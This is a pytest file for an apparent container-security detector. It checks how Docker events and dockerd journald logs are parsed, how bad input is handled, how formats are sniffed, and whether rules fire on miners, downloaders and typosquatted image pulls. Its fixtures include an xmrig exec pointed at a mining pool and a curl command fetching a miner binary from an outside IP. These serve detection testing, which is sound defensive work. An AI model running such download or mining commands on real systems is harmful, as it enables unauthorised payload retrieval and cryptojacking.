"""Docker events JSON and dockerd journald export: mapping, detections, bad input, sniffing."""

from __future__ import annotations

import gzip
import json
import shutil
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from imagehunt.engine.detect import run_scan
from imagehunt.rulepack import load_pack
from imagehunt.sources import container_logs, docker, k8s
from imagehunt.sources.inputs import Input
from imagehunt.sources.sniff import read_rows, sniff
from support.events import MINER, write_lines
from support.source_rows import head_of

SAMPLES = Path(__file__).parent / "samples"
EVENTS = SAMPLES / "docker" / "events.jsonl"
JOURNAL = SAMPLES / "docker" / "dockerd-journal.json"
K8S_AUDIT = SAMPLES / "k8s" / "audit.jsonl"
CONTAINER = "3f1c9a0d2b7e4f6a8c1d0e9f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d"
T0 = 1795168800  # 2026-11-20T10:00:00Z


def by_line(rows: list[dict[str, Any]]) -> dict[int, dict[str, Any]]:
    return {row["_line"]: row for row in rows}


def event_line(**doc: Any) -> str:
    return json.dumps(doc)


# ---- docker events ----------------------------------------------------------------------------
def test_image_pulls_keep_the_repository_as_written() -> None:
    rows = by_line(read_rows(EVENTS, "docker")[0])
    assert rows[1]["container.image.name"] == "ngnix"
    assert rows[1]["container.image.tag"] == ["latest"]
    assert rows[2]["container.image.name"] == "docker.io/library/alpien"
    assert rows[2]["container.image.tag"] == ["3.19"]
    assert rows[1]["event.action"] == "pull"
    assert rows[1]["event.category"] == ["package"]
    assert rows[1]["event.type"] == ["installation"]


def test_old_daemon_message_with_digest_gives_repository_and_tag() -> None:
    row = by_line(read_rows(EVENTS, "docker")[0])[12]
    assert row["container.image.name"] == "bitnami/redis"
    assert row["container.image.tag"] == ["7.2"]
    assert row["event.action"] == "start"
    assert row["container.id"] == CONTAINER
    assert row["@timestamp"] == datetime(2026, 11, 20, 10, 0, 11, tzinfo=UTC)


def test_time_nano_gives_microseconds() -> None:
    row = by_line(read_rows(EVENTS, "docker")[0])[1]
    assert row["@timestamp"] == datetime(2026, 11, 20, 10, 0, 0, 123456, tzinfo=UTC)


def test_image_id_events_name_no_repository() -> None:
    row = by_line(read_rows(EVENTS, "docker")[0])[10]
    assert row["event.action"] == "delete"
    assert row["event.type"] == ["deletion"]
    assert row.get("container.image.name") is None


def test_container_lifecycle_is_not_a_process_start() -> None:
    rows = by_line(read_rows(EVENTS, "docker")[0])
    for line, kind in [(3, "info"), (4, "start"), (7, "info"), (11, "end"), (13, "info")]:
        assert rows[line]["event.category"] == ["host"], line
        assert rows[line]["event.type"] == [kind], line
        assert rows[line]["container.runtime"] == "docker"
    assert rows[4]["container.name"] == "web"
    assert rows[4]["container.image.name"] == "nginx"
    assert rows[13]["event.action"] == "health_status"
    assert rows[8]["event.category"] == ["configuration"]
    assert rows[8].get("container.id") is None


def test_exec_start_is_a_process_start_in_the_container() -> None:
    rows = by_line(read_rows(EVENTS, "docker")[0])
    start = rows[6]
    assert start["event.category"] == ["process"]
    assert start["event.type"] == ["start"]
    assert start["event.action"] == "exec_start"
    assert start["process.name"] == "xmrig"
    assert start["process.args"][:3] == ["xmrig", "-o", "stratum+tcp://pool.example.net:3333"]
    assert start["container.id"] == CONTAINER
    benign = rows[9]
    assert benign["process.executable"] == "/bin/sh"
    assert benign["process.name"] == "sh"
    assert benign["process.command_line"] == "/bin/sh -c ls -la /usr/share/nginx/html"
    created = rows[5]
    assert created["process.name"] == "xmrig"
    assert created["event.category"] == ["host"]


def test_docker_exec_of_a_miner_fires_once_end_to_end() -> None:
    pack = load_pack(select=["miner_process", "miner_cmdline", "container_downloader"])
    outcome = run_scan(pack, [Input(EVENTS, "events.jsonl", "docker")])
    fired = sorted((a.rule.name, a.evidence[0].line) for a in outcome.alerts)
    assert fired == [("miner_cmdline", 6), ("miner_process", 6)]
    assert {a.evidence[0].file for a in outcome.alerts} == {"events.jsonl"}
    assert {a.container_id for a in outcome.alerts} == {CONTAINER}
    assert outcome.inputs[0].events == 13


def test_exec_of_a_downloader_in_a_container_fires_container_downloader(tmp_path: Path) -> None:
    doc = {
        "Type": "container",
        "Action": "exec_start: curl -s -o /tmp/x http://203.0.113.9/xmrig",
        "Actor": {"ID": CONTAINER, "Attributes": {"image": "alpine", "name": "w"}},
        "time": T0,
    }
    path = write_lines(tmp_path / "events.json", [doc])
    pack = load_pack(select=["container_downloader", "miner_process"])
    outcome = run_scan(pack, [Input(path, "e", "docker")])
    assert [(a.rule.name, a.evidence[0].line) for a in outcome.alerts] == [
        ("container_downloader", 1)
    ]


def test_malformed_lines_are_counted_and_neighbours_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(container_logs, "MAX_LINE_BYTES", 300)
    good = EVENTS.read_text(encoding="utf-8").splitlines()[0]
    lines: list[str | dict[str, Any]] = [
        good,
        "{not json",
        "",
        "[1, 2]",
        {"hello": "world"},
        json.dumps({"Action": "start", "Type": "container", "x": "y" * 400}),
        good,
        {"Type": "container", "Action": "start", "Actor": "oops", "time": "later"},
    ]
    path = write_lines(tmp_path / "events.jsonl", lines)
    rows, problems = read_rows(path, "docker")
    assert [row["_line"] for row in rows] == [1, 7, 8]
    assert [line for line, _ in problems.first] == [2, 4, 5, 6]
    assert problems.count == 4
    assert "invalid JSON" in problems.first[0][1]
    assert "longer than 300 bytes" in problems.first[3][1]
    odd = rows[2]
    assert odd["event.action"] == "start"
    assert odd.get("@timestamp") is None
    assert odd.get("container.id") is None


def test_gzip_input_reads_like_plain(tmp_path: Path) -> None:
    target = tmp_path / "events.jsonl.gz"
    with EVENTS.open("rb") as src, gzip.open(target, "wb") as dst:
        shutil.copyfileobj(src, dst)
    assert sniff(target) == ("docker", "")
    gz_rows, problems = read_rows(target, "docker")
    plain_rows, _ = read_rows(EVENTS, "docker")
    drop = {"_file"}
    assert [{k: v for k, v in r.items() if k not in drop} for r in gz_rows] == [
        {k: v for k, v in r.items() if k not in drop} for r in plain_rows
    ]
    assert problems.count == 0


# ---- dockerd journald export ------------------------------------------------------------------
def test_journal_pull_message_names_the_image() -> None:
    rows = by_line(read_rows(JOURNAL, "docker")[0])
    pulled = rows[3]
    assert pulled["container.image.name"] == "docker.io/library/ngnix"
    assert pulled["container.image.tag"] == ["latest"]
    assert pulled["event.action"] == "pull"
    assert pulled["event.dataset"] == "docker.daemon"
    assert pulled["host.name"] == "node-1"
    assert pulled["process.pid"] == 812
    assert pulled["@timestamp"] == datetime(2026, 11, 20, 10, 0, 2, 250000, tzinfo=UTC)


def test_journal_other_units_and_plain_dockerd_messages() -> None:
    rows = by_line(read_rows(JOURNAL, "docker")[0])
    assert len(rows) == 6
    assert rows[1]["event.module"] == "journald"
    assert rows[1]["process.name"] == "systemd"
    assert rows[2]["event.module"] == "docker"
    assert rows[2].get("event.action") is None
    assert rows[5]["container.id"] == CONTAINER


def test_journal_message_as_byte_array_is_decoded() -> None:
    row = by_line(read_rows(JOURNAL, "docker")[0])[4]
    assert row["container.id"] == CONTAINER
    message = b'level=info msg="image pulled" remote="ngnix:1.0"'
    assert docker.message_text(list(message)) == message.decode()
    assert docker.message_text([104, 300]) is None
    assert docker.message_text([104, "i"]) is None
    assert docker.message_text(list(b"caf\xe9")) == "caf\ufffd"


def test_journal_byte_array_pull_is_mapped(tmp_path: Path) -> None:
    message = b'time="x" level=info msg="image pulled" remote="ngnix:latest" id=\xff'
    entry = {
        "__REALTIME_TIMESTAMP": "1795168800000001",
        "_HOSTNAME": "n",
        "SYSLOG_IDENTIFIER": "dockerd",
        "MESSAGE": list(message),
    }
    path = write_lines(tmp_path / "j.json", [entry])
    (row,) = read_rows(path, "docker")[0]
    assert row["container.image.name"] == "ngnix"
    assert row["@timestamp"] == datetime(2026, 11, 20, 10, 0, 0, 1, tzinfo=UTC)


def test_logfmt_handles_quotes_escapes_and_bare_words() -> None:
    text = 'time="t" level=info msg="say \\"hi\\" \\\\ there" bare k=v empty= last="open'
    assert docker.logfmt(text) == {
        "time": "t",
        "level": "info",
        "msg": 'say "hi" \\ there',
        "k": "v",
        "empty": "",
        "last": "open",
    }


def test_split_image_keeps_what_was_written() -> None:
    split = container_logs.split_image
    assert split("localhost:5000/team/app") == ("localhost:5000/team/app", None)
    assert split("localhost:5000/app:1@sha256:" + "a" * 64) == ("localhost:5000/app", "1")
    assert split("sha256:" + "a" * 64) == (None, None)
    assert split("bad name") == (None, None)
    assert split(42) == (None, None)


# ---- sniffing ---------------------------------------------------------------------------------
def test_sniff_claims_both_docker_files(tmp_path: Path) -> None:
    assert sniff(EVENTS) == ("docker", "")
    assert sniff(JOURNAL) == ("docker", "")
    old_daemon = {"status": "pull", "id": "ngnix:latest", "time": T0}
    assert sniff(write_lines(tmp_path / "old.json", [old_daemon])) == ("docker", "")


def test_sniff_leaves_other_formats_alone(tmp_path: Path) -> None:
    ecs = write_lines(tmp_path / "ecs.ndjson", [MINER])
    sshd = {"__REALTIME_TIMESTAMP": "1", "SYSLOG_IDENTIFIER": "sshd", "MESSAGE": "dockerd"}
    journal = write_lines(tmp_path / "sshd.json", [sshd])
    api_log = write_lines(tmp_path / "api.json", [{"status": "ok", "id": "r1", "time": T0}])
    assert not docker.sniff(head_of(api_log))
    assert not docker.sniff(head_of(ecs))
    assert not docker.sniff(head_of(journal))
    assert not docker.sniff(head_of(K8S_AUDIT))
    assert not k8s.sniff(head_of(EVENTS))
    assert not k8s.sniff(head_of(JOURNAL))
    assert sniff(ecs)[0] == "ecs"


def test_typosquatted_pulls_alert_on_their_lines() -> None:
    path = SAMPLES / "docker" / "events.jsonl"
    pack = load_pack(select=["image_pull_typosquat"])
    outcome = run_scan(pack, [Input(path, str(path), "docker")])
    images = {a.evidence[0].line: a.fields["container.image.name"] for a in outcome.alerts}
    assert images[1] == "ngnix"
    assert images[2] == "docker.io/library/alpien"
